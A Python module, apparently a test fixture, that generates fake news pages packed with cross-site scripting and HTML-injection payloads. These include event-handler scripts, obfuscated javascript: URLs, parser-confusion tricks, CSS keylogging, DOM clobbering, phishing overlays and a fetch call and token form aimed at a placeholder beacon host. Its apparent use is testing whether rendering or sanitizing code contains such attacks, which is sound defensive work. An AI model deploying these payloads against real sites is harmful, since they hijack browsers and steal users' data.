"""Made-up pages that want to run, to ask, or to cover something in the browser of who looks at them.

BEACON stands for a server that nobody may ask, SPEAK for what every script would do: title, console and beacon tell.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence

SPOKEN = "window.stolen=1;document.title='stolen';console.log('stolen');fetch('BEACON/js')"
MARKUP: Mapping[str, str] = {
    "a script": "<script>SPEAK</script>",
    "a script from elsewhere": '<script src="BEACON/x.js"></script>',
    "a module": '<script type="module">SPEAK</script><link rel="modulepreload" href="BEACON/m.js">',
    "an import map": '<script type="importmap">{"imports":{"a":"BEACON/a.js"}}</script>',
    "a picture that fails": '<img src="BEACON/a.png" onerror="SPEAK">',
    "a picture in sizes": '<picture><source srcset="BEACON/b.webp 2x"><img srcset="BEACON/c.png 1x" src=""></picture>',
    "a background": '<table background="BEACON/d.png"><tr><td background="BEACON/e.png">cell</td></tr></table>',
    "a pointer's way": '<b onmouseover="SPEAK" onpointerenter="SPEAK">bold</b>',
    "a focus at once": '<input autofocus onfocus="SPEAK"><a href="#" autofocus tabindex="1" onfocus="SPEAK">x</a>',
    "an animation's end": '<style>@keyframes k{}</style><i style="animation:k 1s" onanimationend="SPEAK">x</i>',
    "an opened detail": '<details open ontoggle="SPEAK"><summary>more</summary>words</details>',
    "an address that runs": '<a href="javascript:SPEAK">press</a>',
    "a broken address that runs": '<a href=" java&#x0A;script&colon;SPEAK">press</a>',
    "an address of data": '<a href="data:text/html,<script>alert(1)</script>">press</a><a href="blob:BEACON/1">b</a>',
    "a frame": '<iframe src="BEACON/frame"></iframe><frameset><frame src="BEACON/f"></frameset>',
    "a frame of words": '<iframe srcdoc="<script>parent.SPEAK</script>"></iframe>',
    "a fenced frame": '<fencedframe src="BEACON/ff"></fencedframe><portal src="BEACON/portal"></portal>',
    "a drawing's script": '<svg onload="SPEAK"><script>SPEAK</script><circle r="4"/></svg>',
    "a drawing's picture": '<svg><image href="BEACON/s.png"/><use xlink:href="BEACON/s.svg#a"/></svg>',
    "a drawing's animation": '<svg><a><animate attributeName="href" values="javascript:SPEAK"/><text y="9">x</text></a></svg>',
    "a drawing's foreign part": '<svg><foreignObject><img src=x onerror="SPEAK"></foreignObject></svg>',
    "a style's picture": '<p style="background:url(BEACON/css.png)">styled</p>',
    "a style's import": "<style>@import 'BEACON/i.css'; p{background:url(BEACON/p.png)}</style>",
    "a style's font": "<style>@font-face{font-family:f;src:url(BEACON/f.woff)} *{font-family:f}</style>",
    "a style that listens": "<style>input[value^='s']{background:url(BEACON/key-s)}</style>",
    "a cover over all": '<div style="position:fixed;inset:0;z-index:9999;background:#fff"><a href="BEACON/cover">Sign in</a></div>',
    "a form": '<form action="BEACON/form" method="post"><input name="token"><button>Sign in</button></form>',
    "a button of a form": '<button form="x" formaction="javascript:SPEAK">press</button><input type="image" src="BEACON/im.png">',
    "an object": '<object data="BEACON/o.swf"><param name="movie" value="BEACON/o"></object>',
    "an embedded file": '<embed src="BEACON/e.pdf"><applet code="BEACON/a.class"></applet>',
    "a link that pings": '<a href="/n/ping" ping="BEACON/ping">ping</a>',
    "a link to the top": '<a href="BEACON/top" target="_top" rel="opener">top</a><a href="BEACON/b" target="_blank" rel="opener">b</a>',
    "a film": '<video autoplay poster="BEACON/poster.png" src="BEACON/v.mp4" onloadstart="SPEAK"></video>',
    "a sound and its track": '<audio autoplay src="BEACON/a.mp3"></audio><video><track default src="BEACON/t.vtt"></video>',
    "a formula": '<math><mtext><img src=x onerror="SPEAK"></mtext><maction href="javascript:SPEAK">m</maction></math>',
    "a comment that ends early": '<!--><img src=x onerror="SPEAK">--><!-- --!><script>SPEAK</script>',
    "a part without scripts": '<noscript><p title="</noscript><img src=x onerror=SPEAK>">x</p></noscript>',
    "a template": '<template><script>SPEAK</script></template><div><template shadowrootmode="open"><img src=x onerror="SPEAK"></template></div>',
    "quotes in a class": "<p class='a\"><script>SPEAK</script>' id='\"onclick=alert(1)'>quoted</p>",
    "names that clobber": '<form name="document"></form><img name="cookie" id="main"><a id="csrf" name="csrf">n</a><p id="__proto__">n</p>',
    "a marquee": '<marquee onstart="SPEAK">moves</marquee><bgsound src="BEACON/bg.wav">',
    "an element of its own": '<x-steal onclick="SPEAK" style="display:block" contenteditable popover>custom</x-steal>',
    "an entity from elsewhere": '<!DOCTYPE x [<!ENTITY e SYSTEM "BEACON/dtd">]>&e;<?xml-stylesheet href="BEACON/x.xsl"?>',
}
OPEN: Mapping[str, str] = {
    "an end that comes early": "</p></article></main></body></html><form action='BEACON/late'><p>after the end",
    "a formula that turns": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=SPEAK&gt;">',
    "a title that ends early": '<svg></p><style><a id="</style><img src=x onerror=SPEAK>">',
    "a choice that ends early": '<select><option><style></option></select><img src=x onerror="SPEAK"></style>',
    "words left as they are": "<xmp><p title='</xmp><img src=x onerror=SPEAK>'>x</xmp><plaintext>the rest",
}
"""What turns the rest of a page into something else: last on its page."""
WORDS: Mapping[str, str] = {
    "markup that was escaped": "&lt;img src=BEACON/t.png onerror=SPEAK&gt; lanterns",
    "markup that was escaped twice": "&amp;lt;script&amp;gt;SPEAK&amp;lt;/script&amp;gt; kites",
    "an attribute's end": "&quot;&gt;&lt;svg onload=alert(1)&gt; the quay",
    "words of templates": "{{7*7}} ${7*7} <%= 7*7 %> {%25 raw %25} of the mill",
    "another way of writing": "\u202elevel eht no\u2066 txet \u2069 of the pier",
    "a huge one": "A very long headline of the town " * 300,
    "signs that cannot be seen": "Zero\u200b width\u2060 and \x07 bells \ufeff of the tower",
}
"""Headlines."""
RELATIONS = (
    "preload",
    "prefetch",
    "dns-prefetch",
    "preconnect",
    "prerender",
    "icon",
    "manifest",
    "stylesheet",
)
HEAD = (
    '<base href="BEACON/" target="_top"><meta http-equiv="refresh" content="0;url=BEACON/refresh">'
    '<meta http-equiv="Content-Security-Policy" content="default-src *">'
    + "".join(f'<link rel="{relation}" href="BEACON/{relation}" as="image">' for relation in RELATIONS)
    + '<title>"><script>SPEAK</script></title><script>SPEAK</script>'
)
BODY = '<body onload="SPEAK" onpageshow="SPEAK" background="BEACON/bg.png">'
ROW = (
    '<article class="story"><h2><a href="LINK">TITLE</a></h2><p class="by">By <span class="author">'
    "Mira <b onclick='SPEAK'>Holt</b> &lt;script&gt;</span></p>"
    '<time datetime="2026-11-DAYT10:00:00Z" onclick="SPEAK">DAY Nov 2026</time><p>What is told here, in a sentence. PIECE</p></article>'
)
LINKS = (
    "/n/NUMBER",
    "/n/NUMBER'onclick=SPEAK",
    "javascript:SPEAK",
    "data:text/html,SPEAK",
    "//BEACONS/n/NUMBER",
)
AT_ONCE = 9
"""Attacks of one page."""


def pages(beacon: str) -> dict[str, tuple[str, str]]:
    """Every kind of attack, a few to a page: path → media type and body; scripts would tell this server."""
    drawn = dict(enumerate(groups(), 1))
    speak = SPOKEN.replace("BEACON", beacon)
    bare = beacon.partition("://")[2]
    return {
        f"/hostile/{number}": (
            "text/html",
            body.replace("SPEAK", speak).replace("BEACONS", bare).replace("BEACON", beacon),
        )
        for number, body in drawn.items()
    }


def groups() -> Iterator[str]:
    """The pages, with their marks."""
    pieces = list(MARKUP.values())
    last = list(OPEN.values())
    for number in range(0, len(pieces), AT_ONCE):
        ending = [last.pop()] if last else []
        yield page([*pieces[number : number + AT_ONCE], *ending], start=number)
    yield page([""] * len(WORDS), start=80, titles=list(WORDS.values()))


def page(pieces: Sequence[str], start: int, titles: Sequence[str] = ()) -> str:
    """A page whose stories have these pieces below their headlines."""
    rows: list[str] = []
    for place, piece in enumerate(pieces):
        number = start + place + 1
        marks = {
            "LINK": LINKS[place % len(LINKS)],
            "TITLE": titles[place] if titles else f"The quay of district {number} has lanterns",
            "PIECE": piece,
            "DAY": str(27 - place),
            "NUMBER": str(number),
        }
        row = ROW
        for mark, text in marks.items():
            row = row.replace(mark, text)
        rows.append(row)
    return f"<!doctype html><html><head>{HEAD}</head>{BODY}<main>{''.join(rows)}</main></body></html>"
